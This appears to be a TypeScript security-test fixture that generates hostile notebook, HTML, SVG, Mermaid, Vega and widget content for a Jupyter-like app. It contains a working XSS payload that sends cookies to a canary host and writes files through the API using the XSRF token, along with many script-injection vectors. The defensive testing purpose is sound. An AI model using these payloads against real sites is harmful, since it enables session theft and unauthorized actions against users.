/** Code that an attacker would want to run: it marks the page, sends the cookie away and writes through the API. */
const payload = (canary: string, way: string): string =>
  `window.__pwned=(window.__pwned||[]).concat("${way}");top.__pwned="${way}";` +
  `fetch("${canary}/${way}?"+encodeURIComponent(document.cookie));` +
  `fetch("/api/contents/pwned.txt",{method:"PUT",headers:{"X-XSRFToken":(/_xsrf=([^;]+)/.exec(document.cookie)||[])[1]},` +
  `body:JSON.stringify({type:"file",format:"text",content:"${way}"})})`;

const escaped = (text: string): string => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** Markup that runs code or tells another server in every way that is known to us; `from` names where it stands. */
export function hostileHtml(canary: string, from: string): string {
  const run = (way: string): string => payload(canary, `${from}-${way}`);
  const attribute = (way: string): string => escaped(run(way));
  return [
    `<p class="harmless">${from}</p>`,
    `<script>${run("script")}</script>`,
    `<script src="${canary}/${from}-remote.js"></script>`,
    `<script type="module">${run("module")}</script>`,
    `<img src="nothing" onerror="${attribute("onerror")}">`,
    `<svg onload="${attribute("svg-onload")}"><script>${run("svg-script")}</script><animate onbegin="${attribute("animate")}" attributeName="x"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attribute("mutation")}&gt;">`,
    `<a class="bad-link" href="javascript:${attribute("link")}">link</a>`,
    `<a class="bad-link" href="&#x6a;avascript&colon;${attribute("escaped-link")}">link</a>`,
    `<iframe srcdoc="<script>${attribute("srcdoc")}</script>"></iframe>`,
    `<iframe src="javascript:${attribute("frame")}"></iframe>`,
    `<iframe src="${canary}/${from}-frame.html"></iframe>`,
    `<object data="${canary}/${from}-object"></object><embed src="${canary}/${from}-embed">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/${from}-refresh">`,
    `<base href="${canary}/${from}-base/">`,
    `<link rel="stylesheet" href="${canary}/${from}-style.css">`,
    `<link rel="prefetch" href="${canary}/${from}-prefetch">`,
    `<style>@import url("${canary}/${from}-import.css"); body { background: url("${canary}/${from}-background"); }</style>`,
    `<div style="background-image:url('${canary}/${from}-attribute-style')">styled</div>`,
    `<img src="${canary}/${from}-picture.png"><video autoplay poster="${canary}/${from}-poster" src="${canary}/${from}-video"></video>`,
    `<input autofocus onfocus="${attribute("onfocus")}"><details open ontoggle="${attribute("ontoggle")}">x</details>`,
    `<form action="${canary}/${from}-form" id="f"><button formaction="javascript:${attribute("formaction")}">send</button></form>`,
    `<body onload="${attribute("body")}"><marquee onstart="${attribute("marquee")}">x</marquee>`,
  ].join("\n");
}

export function hostileSvg(canary: string, from: string): string {
  const run = (way: string): string => payload(canary, `${from}-${way}`);
  return `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="${escaped(run("onload"))}">
<script>${run("script")}</script><image href="${canary}/${from}-image"/>
<foreignObject width="90" height="30"><img xmlns="http://www.w3.org/1999/xhtml" src="nothing" onerror="${escaped(run("foreign"))}"/></foreignObject>
<text y="20">picture</text></svg>`;
}

/** A chart whose data and picture lie elsewhere. */
export const hostileVega = (canary: string): object => ({
  $schema: "https://vega.github.io/schema/vega/v5.json",
  width: 60,
  height: 60,
  data: [{ name: "d", url: `${canary}/vega-data.json` }],
  marks: [{ type: "image", encode: { enter: { url: { value: `${canary}/vega-image` } } } }],
});

export const hostileMermaid = (canary: string): string =>
  `graph TD\nA["<img src=nothing onerror='${payload(canary, "mermaid")}'>"]-->B\nclick A href "javascript:${payload(canary, "mermaid-link").replaceAll('"', "'")}"\nclick B call alert("x")`;

/** A module of a widget, kept in the notebook, that would run as soon as the notebook is opened. */
const widgetState = (canary: string): object => ({
  "application/vnd.jupyter.widget-state+json": {
    version_major: 2,
    version_minor: 0,
    state: {
      evil: {
        model_name: "AnyModel",
        model_module: "anywidget",
        model_module_version: "~0.11.*",
        state: {
          _model_name: "AnyModel",
          _model_module: "anywidget",
          _model_module_version: "~0.11.*",
          _view_name: "AnyView",
          _view_module: "anywidget",
          _view_module_version: "~0.11.*",
          _esm: `${payload(canary, "widget")}; export default { initialize() { ${payload(canary, "widget-initialize")} }, render() {} };`,
          _anywidget_id: "evil",
        },
      },
    },
  },
});

const code = (id: string, outputs: object[]): object => ({
  cell_type: "code",
  id,
  // What a file says of its own trust must not count.
  metadata: { trusted: true, tags: ["<img src=nothing onerror=window.__pwned=['tag']>"], collapsed: false },
  execution_count: 1,
  source: "// an honest line",
  outputs,
});

const shown = (data: object): object => ({ output_type: "display_data", data, metadata: { trusted: true } });

/** A notebook that tries everything, without being run. */
export function hostileNotebook(canary: string): object {
  const html = hostileHtml(canary, "output");
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      title: "<img src=nothing onerror=window.__pwned=['title']>",
      trusted: true,
      kernelspec: {
        name: "cirlab",
        display_name: "<img src=nothing onerror=window.__pwned=['kernel']>",
        language: "typescript",
      },
      widgets: widgetState(canary),
    },
    cells: [
      { cell_type: "markdown", id: "md", metadata: { trusted: true }, source: hostileHtml(canary, "markdown") },
      {
        cell_type: "markdown",
        id: "md2",
        metadata: { trusted: true },
        source: `# Title <img src=nothing onerror="window.__pwned=['heading']">\n\n[a](javascript:window.__pwned=['md-link']) ![i](${canary}/markdown-image.png) ![i](attachment:a.svg)\n\n$\\href{javascript:window.__pwned=['math']}{x}$\n\n\`\`\`mermaid\n${hostileMermaid(canary)}\n\`\`\``,
        attachments: { "a.svg": { "image/svg+xml": hostileSvg(canary, "attachment") } },
      },
      { cell_type: "raw", id: "raw", metadata: { trusted: true, format: "text/html" }, source: html },
      code("html", [shown({ "text/html": html, "text/plain": "plain" })]),
      code("svg", [shown({ "image/svg+xml": hostileSvg(canary, "svg"), "text/plain": "plain" })]),
      code("js", [
        shown({ "application/javascript": payload(canary, "javascript") }),
        shown({ "text/javascript": payload(canary, "text-javascript") }),
      ]),
      code("md-output", [shown({ "text/markdown": hostileHtml(canary, "markdown-output") })]),
      code("latex", [
        shown({
          "text/latex": `$\\href{javascript:window.__pwned=['latex']}{x}$ <img src=nothing onerror="window.__pwned=['latex-html']">`,
        }),
      ]),
      code("vega", [shown({ "application/vnd.vega.v5+json": hostileVega(canary) })]),
      code("mermaid", [shown({ "text/vnd.mermaid": hostileMermaid(canary) })]),
      code("json", [shown({ "application/json": { [html]: html } })]),
      code("widget", [
        shown({ "application/vnd.jupyter.widget-view+json": { version_major: 2, version_minor: 0, model_id: "evil" } }),
      ]),
      code("run", [
        shown({
          "application/vnd.cirlab.run+json": {
            runId: "<img src=nothing onerror=window.__pwned=['run']>",
            title: html,
            status: html,
          },
          "image/svg+xml": hostileSvg(canary, "run"),
        }),
      ]),
      code("streams", [
        { output_type: "stream", name: "stdout", text: html },
        {
          output_type: "error",
          ename: "<img src=nothing onerror=window.__pwned=['error']>",
          evalue: html,
          traceback: [html, "\u001b]8;;javascript:window.__pwned=['osc']\u0007x\u001b]8;;\u0007"],
        },
      ]),
      code("png", [shown({ "image/png": `" onerror="window.__pwned=['png']" x="` })]),
    ],
  };
}
